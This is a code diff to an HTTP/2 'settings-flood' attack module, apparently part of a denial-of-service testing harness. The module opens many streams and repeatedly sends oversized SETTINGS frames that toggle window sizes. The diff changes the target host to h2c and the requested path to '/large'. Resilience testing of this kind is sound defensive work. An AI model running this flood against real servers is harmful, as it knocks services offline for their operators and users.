@@ -15,12 +15,12 @@ export const settingsFlood: Attack = {
   name: 'settings-flood',
   does: `SETTINGS of ${ENTRIES} initial window sizes, with ${STREAMS} streams open`,
   async start(target) {
-    const host = target.hosts.http1;
+    const host = target.hosts.h2c;
     const settings = Array.from({ length: ENTRIES }, (_, i) => [INITIAL_WINDOW_SIZE, i % 2] as const);
     const flood = settingsFrame(settings);
     return inLoops(target, CONNECTIONS, async (stopped) => {
       const connection = await attackConnection(target, host, [[INITIAL_WINDOW_SIZE, 0]]);
-      for (let i = 0; i < STREAMS; i++) await connection.send(requestFrame(2 * i + 1, host, '/slow'));
+      for (let i = 0; i < STREAMS; i++) await connection.send(requestFrame(2 * i + 1, host, '/large'));
       for (let i = 0; i < FRAMES && !stopped.aborted && !connection.closed; i++) await connection.send(flood);
       await pause(100, stopped);
       connection.close();
